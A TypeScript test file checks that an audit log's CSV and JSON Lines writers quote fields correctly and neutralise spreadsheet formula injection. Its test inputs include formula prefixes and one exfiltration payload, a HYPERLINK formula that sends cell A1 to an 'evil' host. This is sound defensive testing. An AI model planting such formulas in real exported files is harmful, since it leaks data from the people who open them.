import fc from 'fast-check';
import { expect, it } from 'vitest';
import { CSV, JSON_LINES } from '../../../../server/audit/entry-writers.ts';
import { hashEntry } from '../../../../server/audit/hash-entry.ts';
import { NOW } from '../../../contract/store/samples.ts';

const ENTRY = {
  ...({ sequence: 7, at: NOW, by: null, what: 'order.opened', about: 'x' } as const),
  ...{ previousHash: 'a'.repeat(64), seal: 'c' },
  facts: { person: 'p', network: '192.0.2.7', reference: '7F3K-22', device: 'Chromium' },
} as const;
const hash = hashEntry(ENTRY);

it('writes what the hash is made of on one line of JSON', () => {
  const line = JSON_LINES.write({ ...ENTRY, hash, facts: { ...ENTRY.facts, device: 'a\nb\u2028' } });
  expect(line.trimEnd()).not.toContain('\n');
  const { at, ...read } = JSON.parse(JSON_LINES.write({ ...ENTRY, hash }));
  expect(hashEntry({ ...read, at: new Date(at) })).toBe(hash);
});

it('writes a row as RFC 4180 has it', () => {
  const facts = { ...ENTRY.facts, device: 'says "hi",\r\nand goes' };
  expect(CSV.head.endsWith('\r\n')).toBe(true);
  const row = CSV.write({ ...ENTRY, hash: 'b', facts });
  expect(row).toBe(
    `7,${NOW.toISOString()},,order.opened,x,p,192.0.2.7,,7F3K-22,"{""device"":""says \\""hi\\"",\\r\\nand goes""}",${'a'.repeat(64)},b,c\r\n`,
  );
});

it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '－1'])('makes no formula of %j', (about) => {
  const [, , , , cell] = CSV.write({ ...ENTRY, hash: 'b', about }).split(',');
  expect([`"'${about}"`, `"'${about[0]}'${about.slice(1)}"`]).toContain(cell);
});

it.each([
  ['a;=1+1;b', "a;'=1+1;b"],
  ['a\t=1', "a\t'=1"],
  ['a, +1', "a,' +1"],
  ['a;"=1"', 'a;\'"=1"'],
  ['a\n-1', "a\n'-1"],
  ['a;b,c=1', 'a;b,c=1'],
])('makes no formula of %j behind what separates elsewhere', (about, cell) => {
  const row = CSV.write({ ...ENTRY, hash: 'b', about, facts: {} });
  expect(readCsv(row)[4]).toBe(cell);
});

it('keeps facts the same JSON, without a separator of elsewhere', () => {
  const facts = { ...ENTRY.facts, device: 'a;=HYPERLINK("http://evil/?"&A1;"click");b, -1' };
  const rest = readCsv(CSV.write({ ...ENTRY, hash: 'b', facts }))[9] ?? '';
  expect(JSON.parse(rest)).toEqual({ device: facts.device });
  expect(rest).not.toMatch(/;|, ?-/);
});

it('has columns only for texts', () => {
  const row = readCsv(CSV.write({ ...ENTRY, hash: 'b', what: 'audit.begun', facts: { person: 0, reason: 'so' } }));
  expect([row[5], row[7], row[9]]).toEqual(['', 'so', '{"person":0}']);
});

/** Cells of one row of RFC 4180. */
function readCsv(row: string): string[] {
  const cells = row.trimEnd().matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g);
  return Array.from(cells, ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '');
}

const hostile = fc
  .array(fc.constantFrom(...'=+-@;,"\'\t\r\n \\ab\uff1d\uff20{}:'), { maxLength: 12 })
  .map((signs) => signs.join(''));

it('has no cell that begins with a formula, whatever separates', () => {
  fc.assert(
    fc.property(hostile, hostile, hostile, hostile, (about, device, reason, name) => {
      const facts = { device, reason, [`x${name}`]: device, [name]: reason };
      const row = CSV.write({ ...ENTRY, hash: 'b', about, facts });
      for (const separator of [/[,\r\n]/, /[;\r\n]/, /[\t\r\n]/, /[;,\t\r\n]/]) {
        for (const cell of row.split(separator)) expect(cell).not.toMatch(/^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
      }
      const cells = readCsv(row);
      const { reason: own, ...others } = facts;
      expect(JSON.parse(cells[9] ?? '')).toEqual(others);
      expect([cells[4], cells[7]].map((one) => one?.replaceAll("'", ''))).toEqual(
        [about, own].map((one) => one.replaceAll("'", '')),
      );
    }),
    { numRuns: 2_000 },
  );
});

it('names unreadable entries', () => {
  const row = CSV.write({ sequence: 8, unreadable: true, keptAt: '=1' }).trimEnd().split(',');
  expect(JSON_LINES.write({ sequence: 8, unreadable: true, keptAt: 'x' })).toBe('{"sequence":8,"unreadable":true}\n');
  expect([row[0], row[3], row.length]).toEqual(['8', 'unreadable', CSV.head.split(',').length]);
});
